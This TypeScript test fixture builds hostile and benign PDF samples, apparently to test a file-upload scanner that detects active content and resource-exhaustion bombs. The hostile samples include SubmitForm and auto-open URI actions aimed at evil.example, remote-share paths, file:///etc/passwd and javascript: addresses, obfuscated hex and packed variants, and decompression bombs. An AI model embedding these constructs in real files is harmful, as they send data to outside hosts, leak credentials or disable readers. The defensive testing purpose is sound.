import { deflateSync } from 'node:zlib'
import type { HostileFile } from './hostile.sheets.ts'

// PDFs that act when they are opened, by roads that a search for words does not see, and honest ones beside them.

const ACTIVE = 'files.active_content'
const TOO_LARGE = 'files.content_too_large'
const BROKEN = 'files.damaged'
const MB = 1024 * 1024

const file = (...objects: (string | Buffer)[]): Buffer =>
  Buffer.concat([
    Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n'),
    ...objects.flatMap((object) => [Buffer.from(object), Buffer.from('\n')]),
    Buffer.from('trailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n'),
  ])
const object = (content: string, number = 3) => `${number} 0 obj\n${content}\nendobj`
const stream = (dictionary: string, body: Buffer | string) =>
  Buffer.concat([
    Buffer.from(`7 0 obj\n<< ${dictionary} >>\nstream\n`),
    Buffer.from(body),
    Buffer.from('\nendstream\nendobj'),
  ])
const packed = (text: string, more = '') => {
  const head = '9 0 '
  return stream(
    `/Type /ObjStm /N 1 /First ${head.length} /Filter /FlateDecode ${more}`,
    deflateSync(head + text),
  )
}
const hex = (text: string) => `<${Buffer.from(text).toString('hex')}>`
const utf16 = (text: string) => `<FEFF${Buffer.from(text, 'utf16le').swap16().toString('hex')}>`

export const HOSTILE_PDFS: readonly HostileFile[] = [
  ...(
    [
      ['data sent on opening', '<< /OpenAction << /S /SubmitForm /F (http://evil.example) >> >>'],
      ['data sent, its name in hex', '<< /S /Subm#69tForm /F (http://evil.example) >>'],
      ['data fetched', '<< /AA << /O << /S /ImportData /F (a.fdf) >> >> >>'],
      ['another file', '<< /OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit] >> >>'],
      ['another file, its name in hex', '<< /S /#47oToR /F (a.pdf) >>'],
      ['a file inside another one', '<< /S /GoToE /T << /R /C >> >>'],
      ['a form in XML', '<< /AcroForm << /XFA [(a) 4 0 R] >> >>'],
      ['a form in XML, in hex', '<< /AcroForm << /#58F#41 4 0 R >> >>'],
      ['an address on a share', '<< /S /URI /URI (\\\\\\\\evil\\\\a) >>'],
      ['an address on a share, in hex', `<< /S /URI /URI ${hex('\\\\evil\\a')} >>`],
      ['an address on a share, in UTF-16', `<< /S /URI /URI ${utf16('\\\\evil\\a')} >>`],
      ['an address on a share, in octal', '<< /S /URI /URI (\\134\\134evil) >>'],
      ['an address of this machine', '<< /S /URI /URI (file:///etc/passwd) >>'],
      ['an address that is a script', '<< /S /URI /URI (java\\\nscript:alert\\(1\\)) >>'],
      ['an address opened without a click', '<< /OpenAction << /S /URI /URI (https://evil.example) >> >>'],
      ['a base on a share', '<< /URI << /Base (//evil/) >> >>'],
      ['a path on a share', '<< /Type /Filespec /F (a) /UF (\\\\\\\\evil\\\\a) >>'],
      ['a file inside, by its key alone', '<< /F (a.exe) /EF << /F 5 0 R >> >>'],
      ['a sound', '<< /S /Sound /Sound 4 0 R >>'],
      ['a scene', '<< /Subtype /3D >>'],
      ['a rendition', '<< /S /Rendition /OP 4 >>'],
      ['a stray bracket before it', '<< /A ) /S /GoToR /F (a.pdf) >>'],
      ['an odd bracket before it', '<< /A > /S /GoToR /F (a.pdf) >>'],
      ['a comment before it', '<< % >>\n /S /GoToR /F (a.pdf) >>'],
    ] as const
  ).map(([what, content]) => ({ what, make: () => file(object(content)), reason: ACTIVE })),
  {
    what: 'an address opened without a click, in an object of its own',
    make: () =>
      file(object('<< /OpenAction 4 0 R >>'), object('<< /S /URI /URI (https://evil.example) >>', 4)),
    reason: ACTIVE,
  },
  {
    what: 'an address opened with a page, in objects of their own',
    make: () =>
      file(
        object('<< /Type /Page /AA 5 0 R >>'),
        object('<< /O 4 0 R >>', 5),
        object('<< /S /URI /URI (https://evil.example) >>', 4),
      ),
    reason: ACTIVE,
  },
  {
    what: 'a path that is an object of its own',
    make: () => file(object('<< /S /URI /URI 4 0 R >>'), object('(\\\\\\\\evil\\\\a)', 4)),
    reason: ACTIVE,
  },
  {
    what: 'a name that is an object of its own',
    make: () => file(object('<< /S 4 0 R >>'), object('/GoToR', 4)),
    reason: ACTIVE,
  },
  {
    what: 'an object inside of a text',
    make: () => file(object('(4 0 obj << /S /GoToR /F \\(a\\) >> endobj)')),
    reason: ACTIVE,
  },
  {
    what: 'an object inside of a comment',
    make: () => file('% 4 0 obj << /S /GoToR >> endobj'),
    reason: ACTIVE,
  },
  {
    what: 'an object inside of a picture',
    make: () => file(stream('/Subtype /Image', '4 0 obj << /XFA 5 0 R >> endobj')),
    reason: ACTIVE,
  },
  {
    what: 'a comment inside the number of an object',
    make: () => file('4 0 % a\nobj << /S /GoToR >> endobj'),
    reason: ACTIVE,
  },
  { what: 'a packed object', make: () => file(packed('<< /S /GoToR /F (a.pdf) >>')), reason: ACTIVE },
  { what: 'a packed address', make: () => file(packed('<< /S /URI /URI (\\\\\\\\evil) >>')), reason: ACTIVE },
  {
    what: 'packed objects that hide the word that ends them',
    make: () => {
      const text = deflateSync(`9 0 << /A (endstream endobj) /S /GoToR >>`, { level: 0 })
      return file(stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', text))
    },
    reason: ACTIVE,
  },
  {
    what: 'packed objects that do not call themselves so',
    make: () => file(stream('/N 1 /First 4 /Filter [/FlateDecode]', deflateSync('9 0 << /S /GoToR >>'))),
    reason: ACTIVE,
  },
  {
    what: 'packed objects without packing',
    make: () => file(stream('/Type /ObjStm /N 1 /First 4', '9 0 << /S /GoToR >>')),
    reason: ACTIVE,
  },
  {
    what: 'a stream whose bytes lie elsewhere',
    make: () => file(stream('/Length 0 /F (\\\\\\\\evil\\\\a)', '')),
    reason: ACTIVE,
  },
  {
    what: 'packed objects behind a second filter',
    make: () =>
      file(
        stream(
          '/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]',
          deflateSync('9 0 << /S /GoToR >>').toString('hex'),
        ),
      ),
    reason: BROKEN,
  },
  {
    what: 'packed objects behind a predictor',
    make: () => file(packed('<< >>', '/DecodeParms << /Predictor 12 /Columns 4 >>')),
    reason: BROKEN,
  },
  {
    what: 'packed objects behind a second filter, in a file that calls itself encrypted',
    make: () =>
      file(
        object('<< /Encrypt 9 0 R >>'),
        stream('/Type /ObjStm /N 1 /First 4 /Filter [/LZWDecode]', deflateSync('9 0 << /S /GoToR >>')),
      ),
    reason: BROKEN,
  },
  { what: 'packed objects that swell', make: () => file(packed('0'.repeat(40 * MB))), reason: TOO_LARGE },
  { what: 'dictionaries in dictionaries', make: () => file(object('<</A'.repeat(MB))), reason: TOO_LARGE },
  { what: 'arrays in arrays', make: () => file(object('['.repeat(5 * MB))), reason: TOO_LARGE },
  { what: 'objects in texts in objects', make: () => file('1 0 obj ('.repeat(300_000)), reason: TOO_LARGE },
  { what: 'very many names', make: () => file(object(`[${'/A '.repeat(3 * MB)}]`)), reason: TOO_LARGE },
]

export const HONEST_PDFS: readonly { what: string; make(): Buffer }[] = [
  { what: 'a plain file', make: () => file() },
  {
    what: 'links that people click on, also without their scheme',
    make: () =>
      file(
        object('<< /Subtype /Link /F 4 /A << /S /URI /URI (https://www.spb.gov.cn/) >> >>'),
        object('<< /A << /S /URI /URI (mailto:a@b.example) >> >>', 4),
        object('<< /A << /S /URI /URI (www.spb.gov.cn) >> >>', 5),
      ),
  },
  {
    what: 'places in the file itself, and a title that is a path',
    make: () =>
      file(
        object('<< /OpenAction [4 0 R /Fit] /AA << /O << /S /GoTo /D [4 0 R /Fit] >> >> >>'),
        object('<< /Title (file:///C:/Users/a.html) /Author (\\\\\\\\server\\\\a) >>', 4),
        object('(\\\\\\\\server\\\\a)', 5),
      ),
  },
  {
    what: 'a signed form',
    make: () =>
      file(
        object('<< /AcroForm << /Fields [4 0 R] /SigFlags 3 >> >>'),
        object('<< /FT /Sig /V 5 0 R /F 132 >>', 4),
      ),
  },
  { what: 'packed objects', make: () => file(packed('<< /Type /Page /Kids [1 0 R] >>')) },
  {
    what: 'many pages',
    make: () =>
      file(
        ...Array.from({ length: 5_000 }, (_, at) =>
          object(`<< /Type /Page /Parent 2 0 R /Contents ${at} 0 R >>`, at + 10),
        ),
      ),
  },
  { what: 'long arrays', make: () => file(object(`[${'500 '.repeat(200_000)}]`)) },
  {
    what: 'short names by chance among packed bytes',
    make: () => file(stream('/Subtype /Image', Buffer.from('\xff/JS \x00/XFA /EF obj', 'latin1'))),
  },
]
